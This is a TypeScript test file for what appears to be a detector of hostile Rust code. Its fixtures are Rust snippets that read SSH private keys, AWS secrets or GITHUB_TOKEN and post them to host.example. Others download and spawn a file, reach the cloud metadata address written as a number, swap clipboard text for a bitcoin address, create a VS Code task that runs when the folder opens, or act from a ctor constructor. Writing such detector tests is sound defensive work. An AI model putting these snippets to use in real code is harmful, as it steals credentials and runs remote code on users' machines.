import { expect, test } from 'vitest';
import { claimsOf } from '../support/claims-of.ts';

const KEY = 'std::fs::read("/home/me/.ssh/id_rsa").unwrap()';
const post = (what: string) => `ureq::post("https://host.example/").send_bytes(&${what})`;

test('what is left out of a pattern takes its place', async () => {
  const told = (pattern: string) => `pub fn go() { let ${pattern} = (${KEY}, 1, Vec::new()); ${post('it')}; }`;
  for (const pattern of ['(it, _, _)', '(it, ..)']) expect(await claimsOf(told(pattern))).toContain('read-then-send');
  for (const pattern of ['(_, _, it)', '(_, it, _)'])
    expect(await claimsOf(told(pattern)), pattern).not.toContain('read-then-send');
});

test('so does what a closure leaves out', async () => {
  const told = (parameters: string) =>
    `pub fn go() { let tell = |${parameters}| ${post('it')}; tell(${KEY}, 1, Vec::new()); }`;
  expect(await claimsOf(told('it, _, _'))).toContain('read-then-send');
  expect(await claimsOf(told('_, _, it'))).not.toContain('read-then-send');
});

test('a pair that may be there is one thing for a closure, and not two', async () => {
  const told = (given: string) => `pub fn go() { Some((${KEY}, Vec::new())).map(|(key, other)| ${post(given)}); }`;
  expect(await claimsOf(told('key'))).toContain('read-then-send');
  expect(await claimsOf(told('other'))).not.toContain('read-then-send');
});

test('a type around something is taken off by its pattern', async () => {
  const told = (given: string) => `
    pub struct Letter(Vec<u8>, Vec<u8>);
    fn mail(Letter(key, other): Letter) { ${post(given)}; }
    pub fn go() { mail(Letter(${KEY}, Vec::new())); }`;
  expect(await claimsOf(told('key'))).toContain('read-then-send');
  expect(await claimsOf(told('other'))).not.toContain('read-then-send');
});

test('a variant is what is in it, and has the methods of its type', async () => {
  const told = (name: string) => `
    pub enum Fact { Key(&'static str), Other }
    impl Fact {
      fn value(&self) -> Option<String> { match self { Fact::Key(name) => std::env::var(name).ok(), Fact::Other => None } }
    }
    pub fn go() { if let Some(value) = Fact::Key("${name}").value() { ${post('value')}; } }`;
  expect(await claimsOf(told('AWS_SECRET_ACCESS_KEY'))).toContain('read-then-send');
  expect(await claimsOf(told('LANG'))).not.toContain('read-then-send');
});

test('a thread that waits above gets what is sent into its channel below', async () => {
  const told = (sent: string) => `
    pub fn go() {
      let (to, from) = std::sync::mpsc::channel();
      std::thread::spawn(move || from.into_iter().for_each(|(at, bytes)| { ${post('bytes')}; }));
      to.send((1, ${sent}));
    }`;
  expect(await claimsOf(told(KEY))).toContain('read-then-send');
  expect(await claimsOf(told('Vec::new()'))).not.toContain('read-then-send');
});

test('a folder lists what is below it, also where it is a path that may be there', async () => {
  const told = (below: string) => `
    pub fn go() {
      let folder = dirs::home_dir().map(|home| home.join("${below}"));
      for entry in folder.iter().flat_map(|dir| dir.read_dir()).flatten() { ${post('std::fs::read(entry.path()).unwrap()')}; }
    }`;
  expect(await claimsOf(told('.ssh'))).toContain('read-then-send');
  expect(await claimsOf(told('.cache/thing'))).not.toContain('read-then-send');
});

test("a file that was made is the closure's", async () => {
  const told = (run: string) => `
    pub fn go() {
      let path = std::env::temp_dir().join("inert");
      let mut body = ureq::get("https://host.example/").call().unwrap().into_reader();
      std::fs::File::create(&path).and_then(|mut file| std::io::copy(&mut body, &mut file)).unwrap();
      std::process::Command::new(${run}).spawn();
    }`;
  expect(await claimsOf(told('&path'))).toContain('download-then-run');
  expect(await claimsOf(told('"ls"'))).not.toContain('download-then-run');
});

test('an address may be one number', async () => {
  const told = (address: string) =>
    `pub fn go() { std::net::TcpStream::connect((std::net::Ipv4Addr::from(${address}), 80)); }`;
  expect(await claimsOf(told('0xA9FE_A9FE'))).toContain('metadata-service');
  expect(await claimsOf(told('0xC000_0201'))).not.toContain('metadata-service');
});

test('of a clipboard what a program puts there of its own, not what it changes or empties', async () => {
  const told = (content: string) => `
    pub fn go() {
      let mut board = arboard::Clipboard::new().unwrap();
      if let Ok(text) = board.get_text() { board.set_text(${content}); }
    }`;
  expect(await claimsOf(told('"bc1qinert"'))).toContain('clipboard-swap');
  for (const content of ['text.trim()', '""', 'given()'])
    expect(await claimsOf(told(content)), content).not.toContain('clipboard-swap');
});

test('a task that is written may start by itself', async () => {
  const told = (when: string) =>
    `pub fn go() { std::fs::write(".vscode/tasks.json", r#"{"runOptions": {"runOn": "${when}"}}"#); }`;
  expect(await claimsOf(told('folderOpen'))).toContain('self-starting-task');
  expect(await claimsOf(told('default'))).not.toContain('self-starting-task');
});

test('what a build makes of a secret in its folder is baked in; what a server gave for it is not', async () => {
  const told = (content: string) => `
    fn main() {
      let token = std::env::var("GITHUB_TOKEN").unwrap();
      let out = std::env::var("OUT_DIR").unwrap();
      std::fs::write(format!("{out}/made.rs"), ${content});
    }`;
  const claims = (content: string) => claimsOf('', { 'build.rs': told(content) });
  expect(await claims('format!("const T: &str = {token:?};")')).toContain('secret-into-artifact');
  expect(
    await claims(
      'ureq::get("https://host.example/").set("authorization", &token).call().unwrap().into_string().unwrap()',
    ),
  ).not.toContain('secret-into-artifact');
});

test('a constructor is one under whatever name its attribute has', async () => {
  const told = (attribute: string) => `
    use ${attribute} as at_start;
    #[at_start] fn go() { std::net::TcpStream::connect("192.0.2.1:1"); }`;
  expect(await claimsOf(told('ctor::ctor'))).toContain('constructor-acts');
  expect(await claimsOf(told('tracing::instrument'))).not.toContain('constructor-acts');
});

test('tests are read where they may take something, and what they show is theirs', async () => {
  const steals = `#[test] fn it() { ${post(KEY)}; }`;
  const files = { 'tests/it.rs': steals };
  expect(await claimsOf('', files, 'test')).toContain('read-then-send');
  expect(await claimsOf('', files, 'run')).not.toContain('read-then-send');
  const honest = '#[test] fn it() { assert!(ureq::get("http://127.0.0.1:1/").call().is_err()); }';
  expect(await claimsOf('', { 'tests/it.rs': honest })).toEqual(new Set());
});
